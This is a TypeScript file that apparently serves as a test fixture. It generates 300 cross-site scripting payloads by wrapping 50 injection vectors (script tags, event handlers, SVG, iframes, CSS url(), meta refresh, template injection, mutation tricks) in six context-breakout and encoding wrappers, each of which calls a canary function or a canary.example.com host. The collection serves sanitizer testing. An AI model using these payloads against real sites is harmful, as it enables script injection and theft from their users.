/**
 * Three hundred texts of an attacker for whatever a page may show: fifty ways to run a script or
 * to ask another server, each written in six ways that break out of where a text may stand. Each
 * calls `fired` or asks for something of this host.
 */
export const CANARY_HOST = 'canary.example.com'

const URL = `//${CANARY_HOST}/x`

const WAYS: readonly string[] = [
  '<script>fired()</script>',
  `<script src=${URL}></script>`,
  '<ScRiPt>fired()</sCrIpT>',
  '<scr<script>ipt>fired()</scr</script>ipt>',
  '<script\u0009>fired()</script\u0020>',
  '<script>/*</script><script>*/fired()</script>',
  '<script type=module>import("' + URL + '")</script>',
  '<img src=x onerror=fired()>',
  '<img src=x onerror="fired()"',
  `<img src=${URL}>`,
  `<img srcset="${URL} 1x">`,
  '<img/src="x"/onerror=fired()>',
  '<image src=x onerror=fired()>',
  '<svg onload=fired()>',
  '<svg><script>fired()</script></svg>',
  `<svg><image href=${URL} /></svg>`,
  `<svg><use href="${URL}#a"/></svg>`,
  '<svg><animate onbegin=fired() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:fired()"><text>x</text></a></svg>',
  '<math><mtext></p><img src=x onerror=fired()></math>',
  '<iframe src="javascript:fired()"></iframe>',
  '<iframe srcdoc="<script>parent.fired()</script>"></iframe>',
  `<iframe src=${URL}></iframe>`,
  `<object data=${URL}></object>`,
  `<embed src=${URL}>`,
  '<body onload=fired()>',
  '<body onpageshow=fired()>',
  '<details open ontoggle=fired()>',
  '<input autofocus onfocus=fired()>',
  '<select autofocus onfocus=fired()>',
  '<video src=x onerror=fired()></video>',
  `<video poster=${URL}></video>`,
  '<audio src onloadstart=fired()>',
  `<link rel=stylesheet href=${URL}>`,
  `<link rel=prefetch href=${URL}>`,
  `<style>@import "${URL}";</style>`,
  `<style>*{background:url(${URL})}</style>`,
  `<p style="background:url(${URL})">x</p>`,
  '<p style="animation:x" onanimationstart=fired()>x</p>',
  `<meta http-equiv=refresh content="0;url=${URL}">`,
  `<base href=${URL}>`,
  '<form action="javascript:fired()"><button autofocus>x</button></form>',
  `<form id=x></form><button form=x formaction=${URL}>x</button>`,
  '<marquee onstart=fired()>x</marquee>',
  '<template shadowrootmode=open><img src=x onerror=fired()></template>',
  '<noscript><p title="</noscript><img src=x onerror=fired()>">',
  'javascript:fired()',
  `{{constructor.constructor('fired()')()}}`,
  `\${fired()}`,
  '<!--><img src=x onerror=fired()>-->',
]

const ESCAPES: readonly ((way: string) => string)[] = [
  (way) => way,
  (way) => `"></dd></td></p>${way}`,
  (way) => `' onmouseover='fired()' autofocus onfocus='fired()'>${way}`,
  (way) => `</title></textarea></option></select></script></style>-->${way}`,
  // Told apart by what decodes once too often.
  (way) => way.replaceAll('<', '&lt;').replaceAll('>', '&#62;').replaceAll('"', '&quot;'),
  (way) => `\u202E\u200B${encodeURIComponent(way)} +ADw-script+AD4-fired()+ADw-/script+AD4- ${way}`,
]

export const PAYLOADS: readonly string[] = ESCAPES.flatMap((escape) => WAYS.map(escape))
